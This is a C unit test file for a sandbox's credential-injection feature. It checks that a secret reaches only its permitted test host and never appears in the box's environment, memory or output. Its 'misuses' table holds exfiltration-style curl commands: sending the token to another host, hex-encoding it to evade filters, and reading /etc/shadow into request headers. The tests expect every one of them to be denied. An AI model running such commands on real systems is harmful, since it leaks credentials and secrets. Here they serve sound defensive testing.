/* SPDX-License-Identifier: Apache-2.0
 * A secret in real boxes: the server gets it, and nothing inside the box has it, at no moment: no
 * environment, no argument, no memory, no output; and nothing that is told. */
#include "abxtest.h"
#include "unit/main.h"

#include "base/mem.h"
#include "base/str.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define SECRET "zzre/al+1234567890"
#define SECRET_IN_URL "zzre%2Fal%2B1234567890"
#define SECRET_AS_BASIC "eDp6enJlL2FsKzEyMzQ1Njc4OTA="
#define SEEN_MAX 65536

static struct abxtest test;
static struct abxtest_result result;

/* ---- a network outside: every name of it is this server (fake_outside.c) ---- */

static int listener;
static uint16_t port;
static pthread_t server;
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER; /* guards all below */
static char seen[SEEN_MAX]; /* what the server got, one request after the other */
static char found[256]; /* where in the box the secret was */

/* ---- looking into the processes of the box ---- */

static void
look_into_file(int pid, const char *name)
{
    char path[64], content[8192];
    FILE *file;
    size_t n;

    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    file = fopen(path, "re");
    n = file == NULL ? 0 : fread(content, 1, sizeof content, file);
    if (memmem(content, n, SECRET, strlen(SECRET)) != NULL) {
        snprintf(found, sizeof found, "%s", path);
    }
    if (file != NULL) {
        fclose(file);
    }
}

static void
look_into_range(int pid, int memory, unsigned long from, unsigned long to)
{
    static char buffer[1 << 20];
    size_t kept = 0;

    while (from < to) {
        size_t room = sizeof buffer - kept, left = to - from;
        ssize_t n = pread(memory, buffer + kept, left < room ? left : room, (off_t)from);

        if (n <= 0) {
            return; /* not readable: [vvar] and the like */
        }
        from += (unsigned long)n;
        n += (ssize_t)kept;
        if (memmem(buffer, (size_t)n, SECRET, strlen(SECRET)) != NULL) {
            snprintf(found, sizeof found, "memory of %d", pid);
        }
        kept = (size_t)n < strlen(SECRET) ? (size_t)n : strlen(SECRET);
        memmove(buffer, buffer + n - kept, kept);
    }
}

static int
look_into_memory(int pid)
{
    char path[64], line[512];
    FILE *maps;
    int memory, n = 0;

    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    maps = fopen(path, "re");
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    memory = open(path, O_RDONLY | O_CLOEXEC);
    while (maps != NULL && memory >= 0 && fgets(line, sizeof line, maps) != NULL) {
        unsigned long from, to;

        if (sscanf(line, "%lx-%lx r", &from, &to) == 2) {
            look_into_range(pid, memory, from, to);
            n++;
        }
    }
    if (maps != NULL) {
        fclose(maps);
    }
    close_fd(memory);
    return n;
}

/* Every process below this one; how many mappings were read. */
static int
look_below(int pid)
{
    char path[64], children[4096] = "";
    FILE *file;
    int n = 0;

    snprintf(path, sizeof path, "/proc/%d/task/%d/children", pid, pid);
    file = fopen(path, "re");
    if (file == NULL) {
        return 0;
    }
    if (fgets(children, sizeof children, file) != NULL) {
        for (char *rest = children, *word; (word = strsep(&rest, " ")) != NULL;) {
            int child = atoi(word);

            if (child > 0) {
                look_into_file(child, "environ");
                look_into_file(child, "cmdline");
                n += look_into_memory(child) + look_below(child);
            }
        }
    }
    fclose(file);
    return n;
}

/* ---- the server: says back what it got ---- */

static void
answer(int fd)
{
    static char request[16384], head[256];
    size_t length = 0;
    int n;

    while (length < sizeof request - 1) {
        ssize_t got = recv(fd, request + length, sizeof request - 1 - length, 0);

        if (got <= 0) {
            return;
        }
        length += (size_t)got;
        request[length] = '\0';
        if (strstr(request, "\r\n\r\n") != NULL) {
            break;
        }
    }
    pthread_mutex_lock(&lock);
    strncat(seen, request, sizeof seen - strlen(seen) - 1);
    if (strncmp(request, "GET /look", 9) == 0) { /* the client waits for us */
        n = look_below((int)getpid());
        if (n < 20) {
            snprintf(found, sizeof found, "only %d mappings could be read", n);
        }
    }
    pthread_mutex_unlock(&lock);
    n = snprintf(head, sizeof head, "HTTP/1.1 200 OK\r\nContent-Length: %zu\r\n\r\n", length);
    send(fd, head, (size_t)n, MSG_NOSIGNAL);
    send(fd, request, length, MSG_NOSIGNAL);
}

static void *
serve(void *data)
{
    int fd;

    while ((fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC)) >= 0) {
        answer(fd);
        close(fd);
    }
    return NULL;
}

static bool
server_saw(const char *text)
{
    bool saw;

    pthread_mutex_lock(&lock);
    saw = strstr(seen, text) != NULL;
    pthread_mutex_unlock(&lock);
    return saw;
}

/* ---- the box ---- */

static void
set_up(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET,
        .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    socklen_t length = sizeof address;
    char json[2048];

    listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    ck_assert_int_eq(bind(listener, (struct sockaddr *)&address, sizeof address), 0);
    ck_assert_int_eq(listen(listener, 16), 0);
    ck_assert_int_eq(getsockname(listener, (struct sockaddr *)&address, &length), 0);
    port = ntohs(address.sin_port);
    seen[0] = found[0] = '\0';
    ck_assert_int_eq(pthread_create(&server, NULL, serve, NULL), 0);
    snprintf(json, sizeof json,
            "{\"version\":1,\"filesystem\":{\"read\":{\"allow\":[\"/\"]},\"write\":{\"allow\":["
            "\"${workspace}\"]},\"decoys\":[\"/etc/shadow\"]},"
            "\"environment\":{\"set\":{\"PATH\":\"/usr/bin:/"
            "bin\",\"no_proxy\":\"*\",\"URL\":\"http://hr.test:%u\","
            "\"OTHER\":\"http://other.test:%u\"}},\"network\":{\"mode\":\"filtered\",\"allow\":["
            "\"hr.test:%u\",\"other.test:%u\",\"8.8.8.0/"
            "24:%u\"]},\"credentials\":[{\"name\":\"hr\",\"env\":\"TOK\","
            "\"hosts\":[\"hr.test:%u\"],\"as\":[\"bearer\",\"basic\",\"query\"],\"query\":\"k\","
            "\"clear_text\":true}]}",
            port, port, port, port, port, port);
    abxtest_open(&test, json);
}

static void
tear_down(void)
{
    abxtest_result_done(&result);
    result = (struct abxtest_result){ .output = NULL };
    abxtest_close(&test);
    shutdown(listener, SHUT_RDWR);
    pthread_join(server, NULL);
    close(listener);
}

static void
give(void)
{
    abx_error *error = NULL;

    ck_assert_msg(
            abx_box_set_credential(test.box, "hr", SECRET, strlen(SECRET), 0, &error) == ABX_OK,
            "%s", abx_error_get_message(error));
}

/* Nothing of what the harness can read has it, and neither has what the command wrote. */
static void
expect_nothing_told(void)
{
    static const char *const forms[] = { SECRET, SECRET_IN_URL, SECRET_AS_BASIC };
    struct str all = { 0 };
    char *json = NULL;
    size_t length;

    str_printf(&all, "%s\n%s\n%s\n", result.output, result.errors, result.explain);
    ck_assert_int_eq(abx_box_receipt(test.box, &json, &length), ABX_OK);
    str_add(&all, json);
    abx_free(json);
    ck_assert_int_eq(abx_policy_to_json(test.policy, &json, &length), ABX_OK);
    str_add(&all, json);
    abx_free(json);
    ck_assert_int_eq(abx_policy_describe(test.policy, "json", &json, &length), ABX_OK);
    str_add(&all, json);
    abx_free(json);
    abxtest_take_events(&test);
    for (size_t i = 0; i < test.n_events; i++) {
        ck_assert_int_eq(abx_event_to_json(test.events[i], &json, &length), ABX_OK);
        str_printf(&all, "%s\n", json);
        abx_free(json);
    }
    for (size_t i = 0; i < N_ELEMENTS(forms); i++) {
        ck_assert_msg(strstr(all.data, forms[i]) == NULL, "'%s' is in %s", forms[i], all.data);
    }
    str_done(&all);
}

START_TEST(the_server_gets_the_secret_and_the_box_has_it_at_no_moment)
{
    give();
    abxtest_run(&test,
            "echo \"$TOK\"; curl -sS -H \"Authorization: Bearer $TOK\" $URL/look && "
            "curl -sS -u \"x:$TOK\" $URL/b && curl -sS -G -d k=$TOK $URL/c; "
            "cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'",
            &result);
    ck_assert_msg(server_saw("Authorization: Bearer " SECRET "\r\n"), "%s\n%s\n%s", seen,
            result.output, result.errors);
    ck_assert_msg(server_saw("Authorization: Basic " SECRET_AS_BASIC "\r\n"), "%s", seen);
    ck_assert_msg(server_saw("GET /c?k=" SECRET_IN_URL " HTTP"), "%s", seen);
    ck_assert_msg(found[0] == '\0', "%s", found);
    expect_nothing_told();
    abxtest_expect_no_denial(&test);
}
END_TEST

START_TEST(a_request_is_held_until_the_secret_is_supplied)
{
    abx_process *process = abxtest_spawn(
            &test, "curl -sS --max-time 20 -H \"Authorization: Bearer $TOK\" $URL/a", NULL);
    abx_event *event = abxtest_wait_event(&test, ABX_EVENT_CREDENTIAL);
    abx_exit ended = { .size = sizeof ended };

    ck_assert_str_eq(abx_event_get_string(event, ABX_FIELD_TARGET), "hr");
    ck_assert_str_eq(abx_event_get_string(event, ABX_FIELD_VERB), "hr.test");
    ck_assert_ptr_nonnull(strstr(abx_event_get_string(event, ABX_FIELD_PROGRAM), "curl"));
    ck_assert_int_eq(
            abx_context_supply(test.context, (uint64_t)abx_event_get_int(event, ABX_FIELD_TICKET),
                    SECRET, strlen(SECRET), 0, NULL),
            ABX_OK);
    ck_assert_int_eq(abx_process_wait(process, 20000, &ended), ABX_OK);
    ck_assert_int_eq(ended.code, 0);
    ck_assert(server_saw("Authorization: Bearer " SECRET "\r\n"));
    abx_process_unref(process);
}
END_TEST

/* "%67%68..." of what stands for the secret. */
#define SPELLED "$(printf %s \"$TOK\" | od -An -v -tx1 | tr -d '\\n' | tr ' ' %)"

static const struct misuse {
    const char *script, *target, *rule;
} misuses[] = {
    { "curl -sS -H \"Authorization: Bearer $TOK\" $OTHER/", "hr", "/credentials/0" },
    { "curl -sS -H \"X-Debug: $TOK\" $URL/", "hr", "/credentials/0" },
    { "curl -sS \"$OTHER/?k=" SPELLED "\"", "hr", "/credentials/0" },
    { "curl -sS -H \"X: $(echo " SPELLED " | sed 's/%/\\\\u00/g')\" $OTHER/", "hr",
            "/credentials/0" },
    { "curl -sS -H \"X: $(sed s/token=// /etc/shadow)\" $URL/", "/etc/shadow", "decoy" },
    { "curl -sS -u \"x:$(sed s/token=// /etc/shadow)\" $URL/", "/etc/shadow", "decoy" },
    { "curl -sS -H \"X: $(sed s/token=// /etc/shadow)\" $OTHER/", "/etc/shadow", "decoy" },
};

START_TEST(what_is_used_elsewhere_is_denied_and_told)
{
    const struct misuse *c = &misuses[_i];
    abx_event *event;

    give();
    abxtest_run(&test, c->script, &result);
    ck_assert_msg(seen[0] == '\0', "%s: %s", c->script, seen);
    ck_assert_msg(strstr(result.output, "urn:agentbox:denied") != NULL, "%s: %s%s", c->script,
            result.output, result.errors);
    event = abxtest_expect_denial(&test, c->target);
    ck_assert_str_eq(abx_event_get_string(event, ABX_FIELD_RULE), c->rule);
    ck_assert_int_eq(abx_event_get_int(event, ABX_FIELD_LAYER), ABX_LAYER_IDENTITY);
    expect_nothing_told();
}
END_TEST

START_TEST(the_address_of_a_host_with_a_credential_is_denied_where_it_is_spelled)
{
    abx_event *event;

    abxtest_run(&test, "curl -sS http://8.8.8.8:${URL##*:}/", &result);
    ck_assert_int_ne(result.exit.code, 0);
    event = abxtest_expect_denial(&test, "8.8.8.8");
    ck_assert_str_eq(abx_event_get_string(event, ABX_FIELD_RULE), "network:by-name");
    ck_assert_ptr_nonnull(strstr(abx_event_get_string(event, ABX_FIELD_ALTERNATIVE), "'hr.test'"));
    ck_assert_msg(seen[0] == '\0', "%s", seen);
}
END_TEST

static Suite *
make_suite(void)
{
    Suite *suite = suite_create("credentials");
    TCase *tcase = tcase_create("credentials");

    tcase_set_timeout(tcase, 60);
    tcase_add_checked_fixture(tcase, set_up, tear_down);
    tcase_add_test(tcase, the_server_gets_the_secret_and_the_box_has_it_at_no_moment);
    tcase_add_test(tcase, a_request_is_held_until_the_secret_is_supplied);
    tcase_add_loop_test(tcase, what_is_used_elsewhere_is_denied_and_told, 0, N_ELEMENTS(misuses));
    tcase_add_test(tcase, the_address_of_a_host_with_a_credential_is_denied_where_it_is_spelled);
    suite_add_tcase(suite, tcase);
    return suite;
}

UNIT_MAIN(make_suite)
